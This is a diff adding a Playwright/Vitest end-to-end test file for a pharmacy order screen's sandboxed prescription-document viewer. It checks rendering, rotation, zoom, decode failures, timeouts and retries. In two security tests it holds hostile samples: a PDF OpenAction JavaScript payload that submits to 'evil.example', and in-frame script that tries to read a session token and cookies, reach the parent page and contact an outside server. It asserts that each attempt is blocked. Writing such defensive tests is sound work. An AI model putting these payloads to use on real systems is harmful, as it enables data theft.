@@ -1,0 +1,230 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Frame } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
+import { type CounterPage, DESK, drawnFrame, press } from '../../support/counter/counter-page.ts';
+import { type CounterWorld, NOON, openCounterWorld } from '../../support/counter/counter-world.ts';
+import { folioOf, placeOrder } from '../../support/counter/placed-orders.ts';
+import { drawnPdf, drawnPng, endlessPdf, scannedPdf } from '../../support/counter/prescription-files.ts';
+import { openTestServer, type TestServer } from '../../support/servers/test-server.ts';
+
+const BLUE = '0 0 1 rg 0 0 612 792 re f';
+const RED = '1 0 0 rg 0 0 612 792 re f';
+
+let world: CounterWorld<TestServer>;
+let server: TestServer;
+/** The page of the cases that leave it as they found it. */
+let desk: CounterPage;
+beforeAll(async () => {
+  world = await openCounterWorld(openTestServer, NOON);
+  server = world.server;
+  desk = await world.open();
+});
+afterAll(() => world.close());
+
+const opened: CounterPage[] = [];
+afterEach(async () => {
+  for (const each of [desk, ...opened]) {
+    expect(each.takeComplaints().filter((said) => !said.includes('responded with a status of 502 '))).toEqual([]);
+  }
+  for (const each of opened.splice(0)) await each.close();
+});
+
+async function openOrder(id: number, shown = desk): Promise<CounterPage> {
+  await shown.page.evaluate(`location.hash = '#/orders/${id}'`);
+  await shown.page.getByRole('heading', { name: folioOf(id) }).waitFor();
+  await shown.page.getByRole('group', { name: 'Acciones' }).waitFor();
+  return shown;
+}
+
+/** Opens a page that no other case uses. */
+async function openOwnPage(): Promise<CounterPage> {
+  const shown = await world.open();
+  opened.push(shown);
+  return shown;
+}
+
+const newPdf = (...pages: readonly string[]): Buffer => drawnPdf(pages.length > 0 ? pages : [BLUE]);
+
+/** Gives the page this in place of every document, until the case is over. */
+async function replaceDocuments(body: Buffer): Promise<void> {
+  await desk.page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
+  onTestFinished(() => desk.page.unrouteAll());
+}
+
+/** Returns red, green and blue in the middle of what is drawn, and whether it is wide or high. */
+const middleOf = (frame: Frame): Promise<readonly [string, string]> =>
+  frame.evaluate(`(() => {
+    const canvas = document.querySelector('canvas');
+    const { width, height } = canvas;
+    const copy = new OffscreenCanvas(1, 1).getContext('2d');
+    copy.drawImage(canvas, -width / 2, -height / 2);
+    const { data } = copy.getImageData(0, 0, 1, 1);
+    return [data.slice(0, 3).join(' '), width > height ? 'wide' : 'high'];
+  })()`);
+
+describe('the document of a prescription', { timeout: 60_000 }, () => {
+  it('is drawn page by page if it is a PDF, by keys', async () => {
+    const id = await placeOrder(server, [newPdf(BLUE, RED)]);
+    const { page } = await openOrder(id);
+    const frame = await drawnFrame(page, 'página 1 de 2');
+    expect(await middleOf(frame)).toEqual(['0 0 255', 'high']);
+    await press(page, 'ArrowRight');
+    await drawnFrame(page, 'página 2 de 2');
+    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'high']);
+    await press(page, 'r');
+    await expect.poll(() => middleOf(frame)).toEqual(['255 0 0', 'wide']);
+    const width = () => frame.evaluate(`document.querySelector('canvas').style.width`);
+    await page.keyboard.press('+');
+    await expect.poll(width).toBe('150%');
+  });
+
+  it('is drawn if it is a picture', async () => {
+    const { page } = await openOrder(await placeOrder(server, [drawnPng(300, 200, [200, 30, 30])]));
+    const frame = await drawnFrame(page, 'página 1 de 1');
+    expect(await middleOf(frame)).toEqual(['200 30 30', 'wide']);
+    await press(page, 'r');
+    await expect.poll(() => middleOf(frame)).toEqual(['200 30 30', 'high']);
+  });
+
+  it.each([
+    ['a page of HTML', '<script>parent.document.title = "in"</script>'],
+    ['a PDF that is cut off', '%PDF-1.4\n1 0 obj<</Type/Cat'],
+  ])('says so if it cannot be drawn: %s', async (_, document) => {
+    const id = await placeOrder(server, [newPdf()]);
+    await replaceDocuments(Buffer.from(document, 'latin1'));
+    const { page } = await openOrder(id);
+    await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
+    expect(await page.title()).toBe(`Orden ${folioOf(id)} · Botica`);
+  });
+
+  it('is asked for again by a button, after it could not be read', async () => {
+    const { page } = desk;
+    const json = { code: 'unreachable', text: 'S3 no responde.' };
+    await page.route('**/documents/**', (route) => route.fulfill({ status: 502, json }), { times: 1 });
+    await openOrder(await placeOrder(server, [newPdf()]));
+    await page.getByRole('alert').getByText('S3 no responde.').waitFor();
+    await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
+    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 255', 'high']);
+    expect(await page.getByRole('alert').count()).toBe(0);
+  });
+
+  it('is never blank because its scan could not be decoded', async () => {
+    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode')]));
+    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'high']);
+    await press(page, '+', 'r');
+    await expect.poll(async () => middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'wide']);
+    const undecodable = await openOrder(await placeOrder(server, [scannedPdf('JPXDecode')]));
+    await undecodable.page.getByText('El documento no se puede mostrar').waitFor();
+  });
+
+  it('shows its other pages if one of them cannot be drawn', async () => {
+    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode', 'JPXDecode')]));
+    const frame = await drawnFrame(page, 'página 1 de 2');
+    await press(page, 'ArrowRight');
+    await page.getByText('Esta página no se puede mostrar').waitFor();
+    expect(await frame.locator('canvas').count()).toBe(0);
+    await press(page, 'ArrowLeft');
+    expect(await middleOf(await drawnFrame(page, 'página 1 de 2'))).toEqual(['0 0 0', 'high']);
+    await page.getByText('Esta página no se puede mostrar').waitFor({ state: 'detached' });
+  });
+
+  it('is given up if it takes too long, while the page goes on', async () => {
+    const { page } = await openOrder(await placeOrder(server, [endlessPdf()]), await openOwnPage());
+    await page.getByText('Página 1 de 1').waitFor();
+    // From here on seconds pass ten times as fast in the page, which counts them anew for each drawing.
+    await page.evaluate('{ const real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 10); }');
+    await press(page, 'r', 'x');
+    await page.getByRole('dialog', { name: 'Rechazar receta' }).waitFor();
+    await page.getByText('El documento no se puede mostrar').waitFor();
+    expect(page.frames()).toHaveLength(1);
+  });
+
+  it('is not given up while its tab is hidden, in which a browser draws nothing', async () => {
+    const own = await openOwnPage();
+    const { page } = own;
+    // From here on seconds pass a hundred times as fast in the page.
+    await page.evaluate('window.real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 100);');
+    const arrived = Promise.withResolvers<void>();
+    await page.route('**/viewer.js', (route) => arrived.promise.then(() => route.continue()));
+    const see = (state: string) =>
+      page.evaluate(`{
+        Object.defineProperty(document, 'visibilityState', { configurable: true, value: '${state}' });
+        document.dispatchEvent(new Event('visibilitychange'));
+      }`);
+    await see('hidden');
+    await openOrder(await placeOrder(server, [newPdf()]), own);
+    await page.evaluate('new Promise((resolve) => setTimeout(resolve, 40_000))');
+    expect(await page.getByRole('alert').count()).toBe(0);
+    await see('visible');
+    await page.getByRole('alert').getByText('tardó demasiado').waitFor();
+    arrived.resolve();
+    await page.evaluate('window.setTimeout = real');
+    await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
+    await drawnFrame(page, 'página 1 de 1');
+  });
+
+  it('runs nothing of a PDF', async () => {
+    const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
+    const id = await placeOrder(server, [newPdf()]);
+    await replaceDocuments(drawnPdf([RED], script));
+    const { page } = await openOrder(id);
+    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
+  });
+
+  it('could reach neither the page nor anybody else, whatever it ran', async () => {
+    // The browser says twice of some attempts that it blocked them, the second time when it likes.
+    const own = await world.open({ screen: DESK });
+    onTestFinished(() => own.close());
+    const shown = await openOrder(await placeOrder(server, [newPdf()]), own);
+    const frame = await drawnFrame(shown.page, 'página 1 de 1');
+    let reached = 0;
+    const stranger = createServer((_, response) => response.end(String(++reached))).listen(0, '127.0.0.1');
+    await once(stranger, 'listening');
+    const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`;
+    const tryAll = `(async () => {
+      const attempt = async (act) => { try { await act(); return 'done'; } catch (error) { return error.name; } };
+      return {
+        origin: self.origin,
+        page: await attempt(() => parent.document.title),
+        token: await attempt(() => sessionStorage.getItem('token')),
+        cookie: await attempt(() => document.cookie),
+        own: await attempt(() => fetch('/session')),
+        other: await attempt(() => fetch('${elsewhere}')),
+        worker: await attempt(() => new Promise((done, fail) => { new Worker('/viewer.js').onerror = () => fail(new Error()); })),
+        top: await attempt(() => { top.location = '${elsewhere}'; }),
+        picture: await attempt(() => new Promise((done, fail) => {
+          const picture = new Image(); picture.onload = done; picture.onerror = () => fail(new Error()); picture.src = '${elsewhere}';
+        })),
+      };
+    })()`;
+    expect(await frame.evaluate(tryAll)).toEqual({
+      origin: 'null',
+      page: 'SecurityError',
+      token: 'SecurityError',
+      cookie: 'SecurityError',
+      own: 'TypeError',
+      other: 'TypeError',
+      worker: 'TypeError',
+      top: 'SecurityError',
+      picture: 'Error',
+    });
+    await frame.evaluate(`void (location.href = '${elsewhere}?secret')`);
+    const said: string[] = [];
+    for (const reason of [
+      "connect-src 'none'",
+      'TrustedScriptURL',
+      'sandboxed',
+      "'img-src' was not",
+      "frame-src 'self'",
+    ]) {
+      await expect.poll(() => said.push(...shown.takeComplaints()) && said.join('\n')).toContain(reason);
+    }
+    // A request that was blocked is told too.
+    const BLOCKED = /Security Policy|TrustedScriptURL|window is sandboxed|^request to /;
+    expect(said.filter((line) => !BLOCKED.test(line))).toEqual([]);
+    expect(reached).toBe(0);
+    stranger.close();
+  });
+});
